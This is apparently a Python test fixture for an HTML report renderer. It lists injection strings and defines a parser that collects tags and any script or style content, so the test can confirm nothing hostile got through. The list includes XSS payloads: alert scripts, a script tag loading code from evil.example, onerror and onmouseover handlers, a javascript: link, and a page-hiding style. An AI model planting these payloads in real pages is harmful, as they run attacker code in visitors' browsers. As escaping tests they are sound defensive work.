"""A report's page taken apart, and texts that try to break out of one."""

from html.parser import HTMLParser

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<!-- --><style>*{display:none}</style>",
    "</td></tr></table><h1>owned</h1>",
    "a | b \\| c `code` [x](javascript:alert(1)) <b>",
    "line\none\r\ntwo\u2028three",
    "\u202egnp.exe \x00 \x1b[31m \ud800",
    "&lt;script&gt; &amp;",
]


class Page(HTMLParser):
    """Every tag with its attributes, and the text inside of style and script."""

    def __init__(self, page: bytes) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.within: dict[str, list[str]] = {"script": [], "style": []}
        self._open = ""
        self.feed(page.decode())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._open = tag

    def handle_endtag(self, tag: str) -> None:
        self._open = ""

    def handle_data(self, data: str) -> None:
        if self._open in self.within:
            self.within[self._open].append(data)
